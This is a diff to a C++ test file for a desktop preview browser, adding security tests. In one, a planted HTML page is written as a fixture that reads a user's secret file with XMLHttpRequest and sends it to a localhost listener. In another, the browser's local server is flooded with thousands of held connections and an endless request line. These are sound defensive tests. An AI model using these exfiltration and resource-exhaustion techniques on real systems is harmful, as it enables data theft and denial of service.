@@ -1,16 +1,29 @@
 // The preview against the real browser, in a desktop session of its own
 // (X server, window manager, session bus).
+#include <arpa/inet.h>
+#include <fcntl.h>
 #include <gtest/gtest.h>
 #include <sys/stat.h>
+#include <netinet/in.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
 #include <unistd.h>
 
+#include <QDBusConnection>
+#include <QDBusMessage>
 #include <QDir>
+#include <QElapsedTimer>
 #include <QFile>
 #include <QImage>
 #include <QImageReader>
+#include <QSet>
+#include <QTcpServer>
+#include <QTcpSocket>
 #include <QTemporaryDir>
 #include <QThread>
 #include <QUrl>
+#include <cerrno>
+#include <iostream>
 
 #include "BrowserProbe.h"
 #include "composer/GlyphCatalogue.h"
@@ -223,29 +236,227 @@ QList<QImage> Frames(const QString& file) {
     return frames;
 }
 
-TEST(PreviewTest, ShowsTheGlyphPicturesAnimatingWithNoNetwork) {
-    ScrapDirectory directory(QStringLiteral("work"), QStringLiteral("a"));
-    const QString window = Preview();
-    ASSERT_TRUE(probe::WaitForTrace(window, QStringLiteral("loaded"), 20000));
-    const qulonglong id = ShownWindowId(window);
-    ASSERT_TRUE(SettlesAt(id, PreviewRect));
-    const QList<QImage> frames = Frames(gui::AppPath(QStringLiteral("\\1\\a.gif")));
-    ASSERT_GE(frames.size(), 2);
-    // The scrap's one picture lies near the top-left corner of the page.
+// Screenshots of the top-left corner of a preview window, where a scrap's
+// first picture lies, once the window has loaded and settled.
+QList<QImage> PageShots(const QString& window, const ScrapDirectory& directory, int count) {
+    EXPECT_TRUE(probe::WaitForTrace(window, QStringLiteral("loaded"), 20000));
+    EXPECT_TRUE(SettlesAt(ShownWindowId(window), PreviewRect));
     const QRect page(PreviewRect.topLeft(), QSize(160, 120));
     QThread::msleep(500);
     QList<QImage> shots;
-    for (int i = 0; i < 4; ++i) {
+    for (int i = 0; i < count; ++i) {
         shots.append(QImage(probe::Screenshot(page, QDir(directory.Path()).filePath(QStringLiteral("shot%1.png").arg(i)))));
         QThread::msleep(110);
     }
+    return shots;
+}
+
+bool ShowsAFrameOf(const QImage& shot, const QString& glyph) {
+    for (const QImage& frame : Frames(gui::AppPath(glyph))) {
+        if (Shows(shot, frame)) return true;
+    }
+    return false;
+}
+
+TEST(PreviewTest, ShowsTheGlyphPicturesAnimatingWithNoNetwork) {
+    ScrapDirectory directory(QStringLiteral("work"), QStringLiteral("a"));
+    ASSERT_GE(Frames(gui::AppPath(QStringLiteral("\\1\\a.gif"))).size(), 2);
+    const QList<QImage> shots = PageShots(Preview(), directory, 4);
     ASSERT_FALSE(shots[0].isNull());
-    bool showsAFrame = false;
-    for (const QImage& frame : frames) showsAFrame = showsAFrame || Shows(shots[0], frame);
-    EXPECT_TRUE(showsAFrame) << "no frame of a.gif in the preview";
+    EXPECT_TRUE(ShowsAFrameOf(shots[0], QStringLiteral("\\1\\a.gif")))
+        << "no frame of a.gif in the preview";
     bool changes = false;
     for (int i = 1; i < shots.size(); ++i) changes = changes || shots[i] != shots[0];
     EXPECT_TRUE(changes) << "the preview does not animate";
+}
+
+// A listener on 127.0.0.1 that keeps what reaches it.
+class Listener : public QTcpServer {
+public:
+    Listener() {
+        listen(QHostAddress::LocalHost);
+        connect(this, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket* socket = nextPendingConnection()) {
+                received_ += "<connection>";
+                connect(socket, &QTcpSocket::readyRead, this, [this, socket] {
+                    received_ += socket->readAll();
+                    socket->abort();
+                });
+            }
+        });
+    }
+    QString Address() const { return QStringLiteral("http://127.0.0.1:%1").arg(serverPort()); }
+    const QByteArray& Received() const { return received_; }
+
+private:
+    QByteArray received_;
+};
+
+// A scrap.htm that someone else wrote where the user works. Opened as the
+// user's own file, it reads nothing and sends nothing: each of its ways to
+// read a file or reach an address holds up the end of its loading, so
+// whatever gets through has reached the listener by then.
+TEST(PreviewTest, APlantedPageReadsNoFileAndReachesNoAddress) {
+    ScrapDirectory directory;
+    const QString secret = QDir(directory.Path()).filePath(QStringLiteral("secret.txt"));
+    QFile file(secret);
+    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
+    file.write("the user's secret");
+    file.setPermissions(QFile::ReadOwner | QFile::WriteOwner);
+    file.close();
+    Listener listener;
+    const QString to = listener.Address(), from = QUrl::fromLocalFile(secret).toString();
+    QFile scrap(directory.ScrapPath());
+    ASSERT_TRUE(scrap.open(QIODevice::WriteOnly));
+    scrap.write(QStringLiteral(
+                    "<link rel='preconnect' href='%1'><link rel='stylesheet' href='%1/css'>"
+                    "<script>var x = new XMLHttpRequest(); x.open('GET', '%2', false); x.send();"
+                    "document.write(\"<img src='%1/script?\" + encodeURIComponent(x.responseText) "
+                    "+ \"'>\");</script>"
+                    "<img src='%1/img'><iframe src='%2'></iframe><iframe src='%1/frame'></iframe>"
+                    "<object data='%2'></object><img src='%1/' style='background: url(%1/style)'>")
+                    .arg(to, from)
+                    .toUtf8());
+    scrap.close();
+
+    const QString window = Preview();
+    EXPECT_TRUE(probe::WaitFor(
+        [&] { return !Events(window).filter(QStringLiteral("load")).isEmpty(); }, 20000));
+    EXPECT_FALSE(probe::WaitFor([&] { return !listener.Received().isEmpty(); }, 1000))
+        << "the listener received: " << listener.Received().constData();
+
+    // Left by another user, the page is not opened at all.
+    if (::geteuid() != 0)
+        GTEST_SKIP() << "a page of another user: only root can give a file to another user";
+    ASSERT_EQ(::chown(QFile::encodeName(directory.ScrapPath()).constData(), 65534, 65534), 0);
+    QString error;
+    try {
+        OpenPreviewBrowser(300, 100, 400, 400);
+    } catch (const gui::RuntimeError& failure) {
+        error = failure.Message();
+    }
+    EXPECT_TRUE(error.contains(directory.ScrapPath()))
+        << "Preview of another user's page: " << error.toStdString();
+}
+
+// The port on 127.0.0.1 that process pid listens on.
+quint16 ListeningPort(qint64 pid) {
+    QSet<QByteArray> sockets;
+    for (const QString& fd : QDir(QStringLiteral("/proc/%1/fd").arg(pid)).entryList(QDir::System)) {
+        char target[64] = {};
+        if (::readlink(
+                QFile::encodeName(QStringLiteral("/proc/%1/fd/%2").arg(pid).arg(fd)).constData(),
+                target, sizeof target - 1) > 0) {
+            sockets.insert(QByteArray(target));
+        }
+    }
+    QFile tcp(QStringLiteral("/proc/%1/net/tcp").arg(pid));
+    tcp.open(QIODevice::ReadOnly);
+    for (const QByteArray& line : tcp.readAll().split('\n')) {
+        const QList<QByteArray> fields =
+            line.simplified().split(' ');  // sl local remote state ... inode
+        if (fields.size() > 9 && fields[3] == "0A" && fields[1].startsWith("0100007F:") &&
+            sockets.contains("socket:[" + fields[9] + "]")) {
+            return quint16(fields[1].mid(9).toUInt(nullptr, 16));
+        }
+    }
+    return 0;
+}
+
+int OpenFiles(qint64 pid) {
+    return QDir(QStringLiteral("/proc/%1/fd").arg(pid)).entryList(QDir::System).size();
+}
+
+qint64 ResidentKb(qint64 pid) {
+    QFile status(QStringLiteral("/proc/%1/status").arg(pid));
+    status.open(QIODevice::ReadOnly);
+    const QByteArray text = status.readAll();
+    return text.mid(text.indexOf("VmRSS:") + 6).trimmed().split(' ').value(0).toLongLong();
+}
+
+// A connection to 127.0.0.1:port that does not wait for the server.
+int Connect(quint16 port) {
+    const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+    sockaddr_in address{};
+    address.sin_family = AF_INET;
+    address.sin_port = htons(port);
+    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    ::connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address);
+    return fd;
+}
+
+// What any local process can do to the browser's glyph server: ask without
+// its secret, hold thousands of connections, half close them, send a
+// request line without end.
+TEST(PreviewTest, NothingDoneToTheGlyphServerHoldsUpThePreview) {
+    ScrapDirectory first(QStringLiteral("first"), QStringLiteral("a"));
+    const QString shown = Preview();
+    ASSERT_TRUE(probe::WaitForTrace(shown, QStringLiteral("loaded"), 20000));
+    const qint64 pid = probe::BrowserPid();
+    const quint16 port = ListeningPort(pid);
+    ASSERT_NE(port, 0) << "the browser listens on no port of 127.0.0.1";
+    rlimit files{};
+    ::getrlimit(RLIMIT_NOFILE, &files);
+    files.rlim_cur = files.rlim_max;
+    ::setrlimit(RLIMIT_NOFILE, &files);
+    ASSERT_GE(files.rlim_cur, 5000u);
+    const int filesBefore = OpenFiles(pid);
+    const qint64 residentBefore = ResidentKb(pid);
+
+    QTcpSocket stranger;
+    stranger.connectToHost(QHostAddress::LocalHost, port);
+    ASSERT_TRUE(stranger.waitForConnected(3000));
+    stranger.write("GET /1/a.gif HTTP/1.0\r\n\r\n");
+    stranger.waitForDisconnected(3000);
+    EXPECT_FALSE(stranger.readAll().contains("200 OK"))
+        << "a glyph went to a process that does not know the secret";
+
+    std::vector<int> held;
+    for (int i = 0; i < 4000; ++i) held.push_back(Connect(port));
+    for (int i = 0; i < 1000; ++i) ::shutdown(held[i], SHUT_WR);
+    const int endless = Connect(port);
+    const QByteArray line(1 << 20, 'x');
+    qint64 sent = 0;
+    QElapsedTimer clock;
+    clock.start();
+    while (sent < (qint64(400) << 20) && clock.elapsed() < 5000) {
+        const ssize_t n = ::send(endless, line.constData(), line.size(), MSG_NOSIGNAL);
+        if (n > 0) sent += n;
+        if (n < 0 && errno != EAGAIN && errno != EINPROGRESS && errno != ENOTCONN)
+            break;  // cut off
+        if (n <= 0) QThread::msleep(1);
+    }
+    ::close(endless);
+
+    // The browser answers on the bus at once and serves a glyph it has not
+    // served yet, its other connections held meanwhile.
+    QDBusMessage get = QDBusMessage::createMethodCall(
+        QStringLiteral("org.dururive.Browser"), shown,
+        QStringLiteral("org.freedesktop.DBus.Properties"), QStringLiteral("Get"));
+    get << QStringLiteral("org.dururive.Browser.Window") << QStringLiteral("Visible");
+    clock.restart();
+    const QDBusMessage reply = QDBusConnection::sessionBus().call(get, QDBus::Block, 5000);
+    const qint64 answeredMs = clock.elapsed();
+    EXPECT_EQ(reply.type(), QDBusMessage::ReplyMessage) << reply.errorMessage().toStdString();
+    EXPECT_LT(answeredMs, 1000) << "the bus answered after " << answeredMs << " ms";
+    const qint64 grownKb = ResidentKb(pid) - residentBefore;
+    // The engine's own work in the process moves it by up to some 15 MB;
+    // before the limit, each byte of the line stayed.
+    EXPECT_LT(grownKb, 32 * 1024) << "the browser grew by " << grownKb << " kB";
+    std::cout << "after " << sent << " bytes of a request line and " << held.size()
+              << " connections the browser grew by " << grownKb << " kB and answered in "
+              << answeredMs << " ms" << std::endl;
+    {
+        ScrapDirectory second(QStringLiteral("second"), QStringLiteral("b"));
+        const QList<QImage> shots = PageShots(Preview(), second, 1);
+        ASSERT_FALSE(shots.isEmpty());
+        EXPECT_TRUE(ShowsAFrameOf(shots[0], QStringLiteral("\\1\\b.gif")))
+            << "no frame of b.gif in the preview";
+    }
+
+    for (const int fd : held) ::close(fd);
+    EXPECT_TRUE(probe::WaitFor([&] { return OpenFiles(pid) <= filesBefore + 16; }, 2000))
+        << OpenFiles(pid) << " files open, " << filesBefore << " before";
 }
 
 TEST(PreviewTest, WindowStaysWithTheUserAfterTheCallerEnds) {
